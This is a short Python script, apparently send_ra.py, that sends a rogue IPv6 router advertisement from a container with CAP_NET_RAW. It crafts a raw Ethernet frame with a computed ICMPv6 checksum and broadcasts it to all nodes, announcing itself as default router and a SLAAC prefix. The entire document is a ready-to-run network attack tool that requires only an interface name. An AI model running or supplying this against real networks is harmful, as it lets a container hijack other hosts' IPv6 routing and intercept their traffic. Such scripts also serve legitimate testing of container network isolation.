# A rogue IPv6 router advertisement, as a container with CAP_NET_RAW sends it: a raw Ethernet frame (AF_PACKET, so
# it works even where the container's own IPv6 is disabled) to all nodes, announcing itself as the default router
# and the prefix 2001:db8:16::/64 for SLAAC. Usage: python3 send_ra.py IFNAME [COUNT]
import socket, struct, sys, time

ifname = sys.argv[1]
count = int(sys.argv[2]) if len(sys.argv) > 2 else 3
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
mac = s.getsockname()[4]
eui = bytearray(mac[:3] + b"\xff\xfe" + mac[3:])
eui[0] ^= 0x02
src = b"\xfe\x80" + b"\x00" * 6 + bytes(eui)
dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:16::")
# RA: type 134, code 0, checksum, cur hop limit 64, flags 0, router lifetime 1800 s, reachable 0, retrans 0
body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
body += struct.pack("!BB6s", 1, 1, mac)                                    # source link-layer address
body += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, prefix)  # prefix, on-link + autonomous
pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
data = pseudo + body
total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
ipv6 = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
frame = b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + ipv6 + body
for _ in range(count):
    s.send(frame)
    time.sleep(0.2)
